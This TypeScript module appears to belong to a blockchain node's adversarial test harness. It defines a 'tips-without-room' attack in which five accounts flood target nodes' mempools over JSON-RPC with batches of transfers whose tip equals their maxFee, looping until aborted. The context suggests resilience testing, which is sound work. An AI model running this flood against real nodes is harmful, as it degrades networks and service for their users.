import { setTimeout as sleep } from 'node:timers/promises';
import { createRpcClient } from '../../../src/client/rpc-client.ts';
import { toHex } from '../../../src/lib/bytes.ts';
import { addressOfPrivateKey } from '../../../src/lib/secp256k1.ts';
import { type Attack, type Stage, sentByAll, type Target } from '../attack.ts';
import { MAX_FEE, signed, transferBody } from '../transactions.ts';

/** As many accounts as it takes to fill a mempool with what one sender may have there. */
const ACCOUNTS = 5;
const BATCH = 100;
const PAUSE_MS = 200;

/** Sends a batch of calls of tx_send. Returns whether the mempool took them all, and the bytes sent. */
const sendAll = async (
  { rpc }: Target,
  transactions: readonly Uint8Array[],
  signal: AbortSignal,
): Promise<{ readonly isTaken: boolean; readonly sent: number }> => {
  const calls = transactions.map((transaction, id) => ({
    jsonrpc: '2.0',
    id,
    method: 'tx_send',
    params: { transaction: toHex(transaction), mode: 'sync' },
  }));
  const body = JSON.stringify(calls);
  const headers = { 'content-type': 'application/json' };
  const isTaken = await fetch(rpc, { method: 'POST', headers, body, signal })
    .then(async (answer) => !(await answer.text()).includes('"error":{'))
    .catch(() => false);
  return { isTaken, sent: body.length };
};

const flood = async (target: Target, key: Uint8Array, signal: AbortSignal): Promise<number> => {
  const client = createRpcClient(target.rpc);
  const address = addressOfPrivateKey(key);
  const body = transferBody();
  let sent = 0;
  let next: bigint | undefined;
  while (!signal.aborted) {
    next ??= await client
      .attempt('account_get', { address })
      .then((answer) => (answer.ok ? answer.value.nonce : undefined));
    const first = next ?? 0n;
    const batch = Array.from({ length: BATCH }, (_, i) =>
      signed(target, key, first + BigInt(i), body, MAX_FEE),
    );
    const { isTaken, sent: bytes } = await sendAll(target, batch, signal);
    sent += bytes;
    next = isTaken ? first + BigInt(BATCH) : undefined;
    if (!isTaken) await sleep(PAUSE_MS);
  }
  return sent;
};

export const attack: Attack = {
  name: 'tips-without-room',
  what: `${ACCOUNTS} accounts fill the mempools with transfers whose tip is as high as their maxFee, so that maxFee leaves no room for the gas beside it.`,
  run: async ({ targets, keys }: Stage, signal) =>
    sentByAll(
      keys.slice(0, ACCOUNTS).flatMap((key, i) => {
        const target = targets[i % targets.length];
        return target === undefined ? [] : [flood(target, key, signal)];
      }),
    ),
};
